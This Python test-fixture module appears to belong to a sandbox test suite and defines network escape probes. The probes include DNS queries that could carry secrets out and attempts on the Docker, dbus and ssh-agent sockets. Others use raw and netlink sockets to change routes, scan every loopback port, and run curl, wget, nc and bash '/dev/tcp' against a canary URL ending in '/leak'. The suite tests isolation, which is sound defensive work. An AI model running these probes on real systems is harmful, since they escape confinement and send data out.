"""Programs that try to reach somebody: servers of the host, its sockets, the world."""

from functools import partial

from tests.hostile.probing import adder_with, probe
from tests.hostile.project import Project

_probe = partial(probe, family="network")
_tested = partial(adder_with, family="network")

PROJECTS: tuple[Project, ...] = (
    _probe(
        "tcp",
        "connects to a server of the host by each of its addresses",
        """
for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3", "127.0.0.53"):
    attempt(host, lambda: connected((host, %%PORT4%%)))
attempt("address", lambda: connected(("%%ADDRESS%%", %%PORTA%%)))
for host in ("10.0.2.2", "172.17.0.1", "192.168.0.1", "192.0.2.1", "8.8.8.8"):
    for port in (53, 80, 443, 2375):
        attempt(f"{host} {port}", lambda: connected((host, port)))
""",
    ),
    _probe(
        "tcp-6",
        "connects to a server of the host by IPv6",
        """
for host in ("::1", "localhost"):
    attempt(host, lambda: connected((host, %%PORT6%%), socket.AF_INET6))
attempt("mapped", lambda: connected(("::ffff:127.0.0.1", %%PORT4%%), socket.AF_INET6))
attempt("mapped address", lambda: connected(("::ffff:%%ADDRESS%%", %%PORTA%%), socket.AF_INET6))
attempt("world", lambda: connected(("2606:4700:4700::1111", 443), socket.AF_INET6))
""",
    ),
    _probe(
        "udp",
        "sends datagrams to the host, to everybody near it, to the world",
        """
def sent(address, option=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        if option:
            out.setsockopt(*option)
        return out.sendto(b"hostile", (address, %%PORTU%%))
show("127.0.0.1", lambda: sent("127.0.0.1"))
attempt("address", lambda: 1 / ("%%ADDRESS%%" != "127.0.0.1") and sent("%%ADDRESS%%"))
attempt("broadcast", lambda: sent("255.255.255.255", (1, 6, 1)))
attempt("multicast", lambda: sent("224.0.0.1"))
attempt("world", lambda: sent("8.8.8.8"))
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as six:
    show("everybody", lambda: six.sendto(b"hostile", ("ff02::1%lo", %%PORTU%%)))
    attempt("mapped", lambda: 1 / ("%%ADDRESS%%" != "127.0.0.1")
            and six.sendto(b"hostile", ("::ffff:%%ADDRESS%%", %%PORTU%%)))
""",
    ),
    _probe(
        "names",
        "asks for names, by the library and by hand, which would carry a secret out",
        """
import struct
question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4leak\\7example\\3com\\0\\0\\1\\0\\1"
for name in ("leak.example.com", "pypi.org", "host.docker.internal", "gateway.internal"):
    attempt(name, lambda: socket.getaddrinfo(name, 80))
def asked(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(2)
        out.connect((server, 53))
        out.send(question)
        return out.recv(512)
servers = ["127.0.0.53", "10.255.255.53", "8.8.8.8", "%%ADDRESS%%"]
for server in servers:
    attempt(server, lambda: asked(server))
    attempt(f"{server} tcp", lambda: connected((server, 53)))
for tool in ("getent hosts pypi.org", "nslookup pypi.org", "ping -c1 -W1 127.0.0.1"):
    show(tool, lambda: os.popen(tool + " 2>&1").read())
""",
    ),
    _probe(
        "unix-sockets",
        "connects to sockets in the file system: a canary, docker, dbus, an agent",
        """
paths = ["%%BASE%%/socket", "/var/run/docker.sock", "/run/docker.sock", "/run/systemd/private",
         "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/user/0/bus",
         "/run/user/1000/bus", "/proc/1/root%%BASE%%/socket", "../../../../..%%BASE%%/socket"]
for path in paths + glob.glob("/tmp/ssh-*/agent.*") + glob.glob("/run/**/*sock*", recursive=True):
    attempt(path, lambda: connected(path, socket.AF_UNIX))
    attempt(f"datagram {path}", lambda: connected(path, socket.AF_UNIX, socket.SOCK_DGRAM))
""",
    ),
    _probe(
        "abstract-sockets",
        "connects to sockets without a file, which only a network namespace hides",
        """
attempt("canary", lambda: connected("\\0canary-%%MARK%%", socket.AF_UNIX))
for name in ("/tmp/.X11-unix/X0", "/tmp/dbus-test", "/com/ubuntu/upstart", "canary-%%MARK%%"):
    attempt(name, lambda: connected("\\0" + name, socket.AF_UNIX))
show("sockets", lambda: content("/proc/net/unix"))
attempt("seen", lambda: 1 / (b"%%MARK%%" in content("/proc/net/unix")))
""",
    ),
    _probe(
        "other-families",
        "opens sockets of every other family: the hypervisor's, Bluetooth, crypto, packets",
        """
SEEN = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, 16}
for family in range(0, 64):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        if family not in SEEN:
            attempt(f"{family} {kind}", lambda: socket.socket(family, kind).close())
            attempt(f"pair {family} {kind}", lambda: socket.socketpair(family, kind))
for cid in (0, 1, 2, 3):
    attempt(f"hypervisor {cid}", lambda: connected((cid, 1024), 40))
""",
    ),
    _probe(
        "raw-packets",
        "makes packets by hand, and listens to those of others",
        """
for protocol in (1, 6, 17, 255):
    attempt(f"raw {protocol}", lambda: socket.socket(2, socket.SOCK_RAW, protocol))
    attempt(f"raw 6 {protocol}", lambda: socket.socket(10, socket.SOCK_RAW, protocol))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300))
attempt("packet datagram", lambda: socket.socket(17, socket.SOCK_DGRAM, 0x0300))
with socket.socket() as plain:
    attempt("device", lambda: 1 / (plain.setsockopt(1, 25, b"eth0\\0") is None))
    attempt("mark", lambda: 1 / (plain.setsockopt(1, 36, 7) is None))
""",
    ),
    _probe(
        "netlink",
        "changes addresses, routes and devices, so that there is a way out",
        """
import struct
def sent(kind, body, flags=0x605):
    with socket.socket(16, socket.SOCK_RAW, 0) as link:
        link.settimeout(3)
        link.sendto(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body, (0, 0))
        code = struct.unpack("=i", link.recv(4096)[16:20])[0]
    if code:
        raise OSError(-code, os.strerror(-code))
attribute = struct.pack("=HH4s", 8, 2, bytes([10, 9, 8, 7]))
attempt("address", lambda: sent(20, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + attribute))
attempt("route", lambda: sent(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)))
attempt("down", lambda: sent(16, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1), 5))
show("links", lambda: socket.if_nameindex())
for protocol in (4, 5, 7, 12, 16, 20):
    show(f"netlink {protocol}", lambda: socket.socket(16, socket.SOCK_RAW, protocol).close())
""",
    ),
    _probe(
        "tools",
        "lets the programs of the system go out for it",
        """
import subprocess
url = "http://127.0.0.1:%%PORT4%%/leak"
for words in (["curl", "-sm3", url], ["wget", "-qT3", "-O-", url], ["git", "ls-remote", url],
              ["perl", "-MIO::Socket::INET", "-e",
               "print IO::Socket::INET->new('127.0.0.1:%%PORT4%%') or die"],
              ["bash", "-c", "echo x > /dev/tcp/127.0.0.1/%%PORT4%%"],
              [sys.executable, "-m", "pip", "download", "-i", url, "leak"],
              ["ssh", "-oBatchMode=yes", "-p%%PORT4%%", "127.0.0.1"],
              ["nc", "127.0.0.1", "%%PORT4%%"]):
    show(words[0], lambda: subprocess.run(words, capture_output=True, input=b"", timeout=6))
""",
    ),
    _probe(
        "long-shot",
        "tries every port of the loopback",
        """
found = []
for port in range(1, 65536):
    with socket.socket() as one:
        if one.connect_ex(("127.0.0.1", port)) == 0 and one.getsockname()[1] != port:
            found.append(port)
attempt("ports", lambda: 1 / len(found))
""",
    ),
    _tested(
        "from-a-test",
        "a suite that passes only when it reached nobody",
        """
ATTEMPTS = {
    "tcp": lambda: connected(("127.0.0.1", %%PORT4%%)),
    "tcp 6": lambda: connected(("::1", %%PORT6%%), socket.AF_INET6),
    "address": lambda: connected(("%%ADDRESS%%", %%PORTA%%)),
    "world": lambda: connected(("8.8.8.8", 443)),
    "name": lambda: socket.getaddrinfo("pypi.org", 443),
    "path": lambda: connected("%%BASE%%/socket", socket.AF_UNIX),
    "abstract": lambda: connected("\\0canary-%%MARK%%", socket.AF_UNIX),
    "hypervisor": lambda: socket.socket(40, socket.SOCK_STREAM),
}


def test_nobody_is_reached():
    assert [name for name, act in ATTEMPTS.items() if attempt(name, act)] == []
""",
    ),
)
